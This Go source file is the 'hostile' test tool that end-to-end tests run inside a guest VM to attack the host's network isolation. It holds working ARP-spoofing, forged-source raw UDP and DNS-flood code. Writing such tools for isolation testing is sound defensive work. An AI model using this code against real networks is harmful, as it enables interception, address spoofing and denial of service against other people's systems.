// Command hostile is the attacker the end-to-end tests put inside a guest:
// root in the guest running crafted traffic against the host's walls. It
// is built by the tests (static, no cgo), copied into a guest with
// `banger vm cp` and run with `banger vm exec`; nothing ships it.
//
// IFACE "auto" means the interface of the default route.
//
//	hostile arp-spoof IFACE CLAIM_IP COUNT     gratuitous ARP: CLAIM_IP is at IFACE's MAC
//	hostile udp-spoof IFACE SRC_MAC SRC_IP DST_MAC DST_IP PORT PAYLOAD
//	                                           one raw UDP frame with forged sources
//	hostile dns-flood SERVER DURATION          as many A queries as it can send
//	hostile dns-query SERVER TYPE NAME         one query; prints the rcode and each answer
//	hostile https-get URL                      GET with Go's default client (system roots,
//	                                           SSL_CERT_FILE); prints the body
//	hostile agent                              replace banger-agent (see hostileAgent)
package main

import (
	"encoding/binary"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"net/netip"
	"os"
	"strconv"
	"strings"
	"time"

	mdns "github.com/miekg/dns"
	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fail(fmt.Errorf("usage: hostile arp-spoof|udp-spoof|dns-flood ARGS"))
	}
	var err error
	switch args := os.Args[2:]; os.Args[1] {
	case "arp-spoof":
		err = arpSpoof(args)
	case "udp-spoof":
		err = udpSpoof(args)
	case "dns-flood":
		err = dnsFlood(args)
	case "dns-query":
		err = dnsQuery(args)
	case "https-get":
		err = httpsGet(args)
	case "agent":
		err = hostileAgent()
	default:
		err = fmt.Errorf("unknown command %q", os.Args[1])
	}
	if err != nil {
		fail(err)
	}
}

func fail(err error) {
	fmt.Fprintln(os.Stderr, "hostile:", err)
	os.Exit(2)
}

// defaultIface returns the interface of the IPv4 default route, read from
// /proc/net/route, so the tests need not know how the guest names its NIC.
func defaultIface() (string, error) {
	b, err := os.ReadFile("/proc/net/route")
	if err != nil {
		return "", err
	}
	for _, line := range strings.Split(string(b), "\n")[1:] {
		f := strings.Fields(line)
		if len(f) > 2 && f[1] == "00000000" {
			return f[0], nil
		}
	}
	return "", fmt.Errorf("no default route")
}

// rawSocket opens an AF_PACKET socket bound to iface ("auto": the default
// route's): frames written to it leave the NIC exactly as built, whatever
// the kernel's own addresses.
func rawSocket(iface string) (int, *net.Interface, error) {
	if iface == "auto" {
		var err error
		if iface, err = defaultIface(); err != nil {
			return -1, nil, err
		}
	}
	ifi, err := net.InterfaceByName(iface)
	if err != nil {
		return -1, nil, err
	}
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, int(htons(unix.ETH_P_ALL)))
	if err != nil {
		return -1, nil, fmt.Errorf("packet socket: %w", err)
	}
	if err := unix.Bind(fd, &unix.SockaddrLinklayer{Protocol: htons(unix.ETH_P_ALL), Ifindex: ifi.Index}); err != nil {
		unix.Close(fd)
		return -1, nil, fmt.Errorf("bind %s: %w", iface, err)
	}
	return fd, ifi, nil
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

func arpSpoof(args []string) error {
	if len(args) != 3 {
		return fmt.Errorf("usage: arp-spoof IFACE CLAIM_IP COUNT")
	}
	claim, err := netip.ParseAddr(args[1])
	if err != nil {
		return err
	}
	n, err := strconv.Atoi(args[2])
	if err != nil {
		return err
	}
	fd, ifi, err := rawSocket(args[0])
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	bcast := net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
	// An ARP reply (op 2) and a gratuitous request (op 1), both saying
	// claim is at our MAC: kernels update an existing entry from either.
	for i := 0; i < n; i++ {
		if i > 0 {
			// Spread over more than the kernel's neighbour locktime (1 s)
			// so a receiver that ignores the first claims takes a later one.
			time.Sleep(300 * time.Millisecond)
		}
		for _, op := range []uint16{2, 1} {
			f := ethernet(bcast, ifi.HardwareAddr, 0x0806, arp(op, ifi.HardwareAddr, claim, bcast, claim))
			if _, err := unix.Write(fd, f); err != nil {
				return fmt.Errorf("send arp: %w", err)
			}
		}
	}
	fmt.Printf("sent %d forged arp pairs claiming %s\n", n, claim)
	return nil
}

func udpSpoof(args []string) error {
	if len(args) != 7 {
		return fmt.Errorf("usage: udp-spoof IFACE SRC_MAC SRC_IP DST_MAC DST_IP PORT PAYLOAD")
	}
	srcMAC, err := net.ParseMAC(args[1])
	if err != nil {
		return err
	}
	src, err := netip.ParseAddr(args[2])
	if err != nil {
		return err
	}
	dstMAC, err := net.ParseMAC(args[3])
	if err != nil {
		return err
	}
	dst, err := netip.ParseAddr(args[4])
	if err != nil {
		return err
	}
	port, err := strconv.ParseUint(args[5], 10, 16)
	if err != nil {
		return err
	}
	fd, _, err := rawSocket(args[0])
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	f := ethernet(dstMAC, srcMAC, 0x0800, ipv4UDP(src, dst, 40000, uint16(port), []byte(args[6])))
	if _, err := unix.Write(fd, f); err != nil {
		return fmt.Errorf("send: %w", err)
	}
	fmt.Printf("sent udp %s(%s) -> %s(%s):%d\n", src, srcMAC, dst, dstMAC, port)
	return nil
}

func ethernet(dst, src net.HardwareAddr, typ uint16, payload []byte) []byte {
	f := make([]byte, 14, 14+len(payload))
	copy(f[0:6], dst)
	copy(f[6:12], src)
	binary.BigEndian.PutUint16(f[12:14], typ)
	return append(f, payload...)
}

func arp(op uint16, sha net.HardwareAddr, spa netip.Addr, tha net.HardwareAddr, tpa netip.Addr) []byte {
	b := make([]byte, 28)
	binary.BigEndian.PutUint16(b[0:2], 1)      // Ethernet
	binary.BigEndian.PutUint16(b[2:4], 0x0800) // IPv4
	b[4], b[5] = 6, 4
	binary.BigEndian.PutUint16(b[6:8], op)
	copy(b[8:14], sha)
	s4, t4 := spa.As4(), tpa.As4()
	copy(b[14:18], s4[:])
	copy(b[18:24], tha)
	copy(b[24:28], t4[:])
	return b
}

func ipv4UDP(src, dst netip.Addr, sport, dport uint16, payload []byte) []byte {
	udp := make([]byte, 8, 8+len(payload))
	binary.BigEndian.PutUint16(udp[0:2], sport)
	binary.BigEndian.PutUint16(udp[2:4], dport)
	binary.BigEndian.PutUint16(udp[4:6], uint16(8+len(payload)))
	udp = append(udp, payload...) // checksum 0: none, valid for IPv4
	ip := make([]byte, 20, 20+len(udp))
	ip[0] = 0x45
	binary.BigEndian.PutUint16(ip[2:4], uint16(20+len(udp)))
	ip[8] = 64
	ip[9] = 17
	s4, d4 := src.As4(), dst.As4()
	copy(ip[12:16], s4[:])
	copy(ip[16:20], d4[:])
	binary.BigEndian.PutUint16(ip[10:12], checksum(ip))
	return append(ip, udp...)
}

func checksum(b []byte) uint16 {
	var sum uint32
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}

// dnsFlood sends A queries for random names to server from 16 sockets
// until duration has passed, never waiting for an answer: a guest that
// wants the daemon's forwarder to hold as much as it can.
func dnsFlood(args []string) error {
	if len(args) != 2 {
		return fmt.Errorf("usage: dns-flood SERVER DURATION")
	}
	d, err := time.ParseDuration(args[1])
	if err != nil {
		return err
	}
	var conns []net.Conn
	for i := 0; i < 16; i++ {
		c, err := net.Dial("udp", args[0])
		if err != nil {
			return err
		}
		defer c.Close()
		conns = append(conns, c)
	}
	end := time.Now().Add(d)
	sent := 0
	for time.Now().Before(end) {
		q := query(fmt.Sprintf("f%x.flood.example", rand.Uint64()))
		if _, err := conns[sent%len(conns)].Write(q); err == nil {
			sent++
		}
	}
	fmt.Printf("sent %d queries\n", sent)
	return nil
}

// query builds a DNS query for name (type A, class IN, RD set) with an
// EDNS0 record advertising a 65535-byte buffer.
func query(name string) []byte {
	b := make([]byte, 12)
	binary.BigEndian.PutUint16(b[0:2], uint16(rand.Uint32()))
	b[2] = 0x01                           // RD
	binary.BigEndian.PutUint16(b[4:6], 1) // QDCOUNT
	binary.BigEndian.PutUint16(b[10:12], 1)
	for _, label := range splitDots(name) {
		b = append(b, byte(len(label)))
		b = append(b, label...)
	}
	b = append(b, 0, 0, 1, 0, 1)
	// OPT RR: root name, type 41, class = UDP size, ttl 0, rdlen 0.
	return append(b, 0, 0, 41, 0xff, 0xff, 0, 0, 0, 0, 0, 0)
}

func splitDots(s string) []string {
	var out []string
	start := 0
	for i := 0; i < len(s); i++ {
		if s[i] == '.' {
			out = append(out, s[start:i])
			start = i + 1
		}
	}
	return append(out, s[start:])
}

// dnsQuery sends one query (a TXT query is what a DNS tunnel would use)
// and prints the answer's rcode, then one line per answer record.
func dnsQuery(args []string) error {
	if len(args) != 3 {
		return fmt.Errorf("usage: dns-query SERVER TYPE NAME")
	}
	qtype, ok := mdns.StringToType[strings.ToUpper(args[1])]
	if !ok {
		return fmt.Errorf("unknown type %q", args[1])
	}
	m := new(mdns.Msg).SetQuestion(mdns.Fqdn(args[2]), qtype)
	c := &mdns.Client{Timeout: 5 * time.Second}
	r, _, err := c.Exchange(m, args[0])
	if err != nil {
		return err
	}
	fmt.Println(mdns.RcodeToString[r.Rcode])
	for _, rr := range r.Answer {
		fmt.Println(rr.String())
	}
	return nil
}

// httpsGet fetches a URL the way a Go program in the guest would, trusting
// what the system trusts, and prints the body.
func httpsGet(args []string) error {
	if len(args) != 1 {
		return fmt.Errorf("usage: https-get URL")
	}
	c := &http.Client{Timeout: 10 * time.Second}
	resp, err := c.Get(args[0])
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	if err != nil {
		return err
	}
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("%s: %s", resp.Status, b)
	}
	os.Stdout.Write(b)
	return nil
}
